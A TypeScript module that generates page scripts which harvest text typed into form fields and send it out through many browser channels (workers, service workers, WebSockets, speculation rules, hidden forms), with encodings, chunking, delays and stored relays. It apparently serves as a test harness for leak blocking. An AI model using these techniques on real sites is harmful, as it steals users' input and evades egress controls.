/** The script of a generated page: listens for the triggers of its leaks, and sends or keeps what it then finds. */
import { PLACES } from './places.js';
import { triggerNamed } from './triggers.js';
import { wayNamed } from './ways.js';

/** How words are wrapped before they are sent. */
export const WRAPPINGS = ['plain', 'base64', 'hex', 'JSON', 'backwards', 'pieces', 'letters'] as const;
export type Wrapping = (typeof WRAPPINGS)[number];

export interface Leak {
  /** Stands in the address to which it sends, and in what it sends. */
  token: string;
  way: string;
  trigger: string;
  /** Where the words wait for the next page; null if this page sends them itself. */
  place: string | null;
  wrapping: Wrapping;
  /** Milliseconds after the trigger: what was shut may be open again. */
  delay: number;
  /** Address without a query. */
  to: string;
}

/** Words that a page adds to what it sends once a person has typed into a field of it. */
export const typedMark = (token: string): string => `typed${token}`;
/** Words that it adds once something on it was pressed. */
export const pressedMark = (token: string): string => `pressed${token}`;

/** What workers run: a request as they are told, and a memory. */
export const WORKER_SCRIPT = `
  let kept = null;
  const ports = [];
  function hear(data, answer) {
    if (data.keep) kept = data.keep;
    if (data.look) answer({ kept });
    const { how, to, parcel } = data;
    if (how === 'late') setTimeout(() => fetch(to, { method: 'POST', body: parcel }), 1500);
    if (how === 'post') fetch(to, { method: 'POST', body: parcel });
    if (how === 'get') fetch(to + '?' + parcel);
    if (how === 'import') importScripts(to + '?' + parcel);
    if (how === 'xhr') { const x = new XMLHttpRequest(); x.open('POST', to); x.send(parcel); }
    if (how === 'socket') { const s = new WebSocket(to.replace('http', 'ws')); s.onopen = () => s.send(parcel); }
    if (how === 'nested') {
      const inner = new Worker(location.href);
      inner.postMessage({ ...data, how: data.inner });
    }
    if (how === 'sync') { waiting = data; self.registration.sync?.register('note'); }
  }
  let waiting = null;
  self.onsync = (event) => event.waitUntil(fetch(waiting.to, { method: 'POST', body: waiting.parcel }));
  self.oninstall = () => self.skipWaiting();
  self.onactivate = (event) => event.waitUntil(self.clients.claim());
  self.onconnect = ({ ports: [port] }) => { port.onmessage = ({ data }) => hear(data, (said) => port.postMessage(said)); };
  self.onmessage = ({ data, source }) => hear(data, (said) => (source ?? self).postMessage(said));
`;

const PAGE = `
const page = {
  pressed: false,
  add(tag, attributes, parent = document.body) {
    const one = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) one.setAttribute(name, value);
    if (tag === 'iframe') one.style.cssText = 'width:1px;height:1px;border:0';
    return parent.appendChild(one);
  },
  svg(inner) {
    const box = this.add('div', {});
    box.innerHTML = '<svg width="9" height="9">' + inner + '</svg>';
  },
  form(attributes, parcel) {
    const form = this.add('form', { hidden: '', ...attributes });
    for (const [name, value] of new URLSearchParams(parcel)) this.add('input', { name, value, type: 'hidden' }, form);
    return form;
  },
  frame() {
    const name = 'frame' + Math.random().toString(36).slice(2);
    this.add('iframe', { name, hidden: '' });
    return name;
  },
  speculate(how, address) {
    this.add('script', { type: 'speculationrules' }).textContent =
      JSON.stringify({ [how]: [{ source: 'list', urls: [address], eagerness: 'immediate' }] });
  },
  blob() { return URL.createObjectURL(new Blob([WORKER], { type: 'text/javascript' })); },
  shared(address = '/work.js') {
    this.memory ??= new SharedWorker(address);
    this.memory.port.start();
    return this.memory;
  },
  service() {
    return navigator.serviceWorker.register('/work.js').then(() => navigator.serviceWorker.ready).then(({ active }) => active);
  },
  work(kind, order) {
    const to = new URL(order.to, location).href;
    const message = { ...order, to };
    if (kind === 'worker') new Worker('/work.js').postMessage(message);
    if (kind === 'blob') new Worker(this.blob()).postMessage(message);
    if (kind === 'nested') new Worker('/work.js').postMessage({ ...message, how: 'nested', inner: order.how });
    if (kind === 'shared') this.shared().port.postMessage(message);
    if (kind === 'shared blob') { const one = new SharedWorker(this.blob()); one.port.start(); one.port.postMessage(message); }
    if (kind === 'service') this.service().then((worker) => worker.postMessage(message));
  },
  /** What somebody has typed; what a page offers to choose is left out. */
  values() {
    return [...document.querySelectorAll('input:not([type=hidden], [type=checkbox], [type=radio], [type=search]), textarea')]
      .map(({ value }) => value).filter(Boolean);
  },
  words(token) {
    const values = this.values();
    return [values.length > 0 ? 'typed' + token : '', this.pressed ? 'pressed' + token : 'looked', ...values].join(' ').trim();
  },
};
const wrap = {
  plain: (words) => [words],
  base64: (words) => [btoa(unescape(encodeURIComponent(words)))],
  hex: (words) => [[...new TextEncoder().encode(words)].map((byte) => byte.toString(16).padStart(2, '0')).join('')],
  JSON: (words) => [JSON.stringify({ words })],
  backwards: (words) => [[...words].reverse().join('')],
  pieces: (words) => words.slice(0, 40).match(/[^]{1,8}/g),
  letters: (words) => [...words.slice(0, 20)],
};
addEventListener('pointerdown', (event) => { page.pressed ||= event.isTrusted; }, true);
function deliver(leak, words) {
  const parcels = wrap[leak.wrapping](words);
  parcels.forEach((piece, index) => {
    try {
      const parcel = 'q=' + encodeURIComponent(piece) + (parcels.length > 1 ? '&i=' + index : '');
      Promise.resolve(SEND[leak.way](leak.to, parcel)).catch(() => {});
    } catch {}
  });
}
function set(leak, control, form) {
  let times = 0;
  const fire = () => {
    if (++times > 3) return;
    console.debug('fired', leak.token);
    const words = page.words(leak.token);
    if (leak.place === null) return leak.delay > 0 ? setTimeout(() => deliver(leak, words), leak.delay) : deliver(leak, words);
    try { KEEP[leak.place](JSON.stringify({ leak: { ...leak, place: null }, words })); } catch {}
  };
  LISTEN[leak.trigger](fire, control, form);
}
const delivered = new Set();
function found(note) {
  let kept;
  try { kept = JSON.parse(note); } catch { return; }
  if (delivered.has(kept.leak.token)) return;
  delivered.add(kept.leak.token);
  console.debug('kept', kept.leak.token);
  deliver(kept.leak, kept.words);
}
addEventListener('DOMContentLoaded', () => {
  for (const name of PLACES) try { LOOK[name](); } catch {}
  for (const leak of LEAKS) set(leak, document.getElementById(leak.token), document.querySelector('main form'));
});
`;

export interface ScriptOptions {
  leaks: readonly Leak[];
  /** All ways that any page of the site uses, for what was kept elsewhere. */
  ways: readonly string[];
  /** All places that any page of the site uses. */
  places: readonly string[];
  /** `host:port` of the listener for datagrams. */
  udp: string;
}

/** The whole script; belongs into the head of the page. */
export function pageScript({ leaks, ways, places, udp }: ScriptOptions): string {
  const used = [...new Set([...ways, ...leaks.map(({ way }) => way)])];
  const listens = [...new Set(leaks.map(({ trigger }) => trigger))];
  const kept = PLACES.filter(({ name }) => places.includes(name));
  const table = (rows: readonly (readonly [string, string])[]) =>
    `{ ${rows.map(([name, code]) => `${JSON.stringify(name)}: ${code}`).join(',\n')} }`;
  const opened = leaks.find(({ way }) => way === 'WebSocket opened before');
  return [
    `const LEAKS = ${JSON.stringify(leaks)};`,
    `const WORKER = ${JSON.stringify(WORKER_SCRIPT)};`,
    `const PLACES = ${JSON.stringify(kept.filter(({ look }) => look).map(({ name }) => name))};`,
    PAGE,
    `page.udp = ${JSON.stringify(udp)};`,
    opened ? `page.socket = new WebSocket(${JSON.stringify(opened.to)}.replace('http', 'ws'));` : '',
    `const SEND = ${table(used.map((name) => [name, `(to, parcel) => { ${wayNamed(name).send} }`]))};`,
    `const LISTEN = ${table(listens.map((name) => [name, `(fire, control, form) => { ${triggerNamed(name).listen} }`]))};`,
    `const KEEP = ${table(kept.map(({ name, keep }) => [name, `(note) => { ${keep} }`]))};`,
    `const LOOK = ${table(kept.flatMap(({ name, look }) => (look ? [[name, `() => { ${look} }`] as const] : [])))};`,
  ]
    .join('\n')
    .replaceAll('</script', '<\\/script');
}
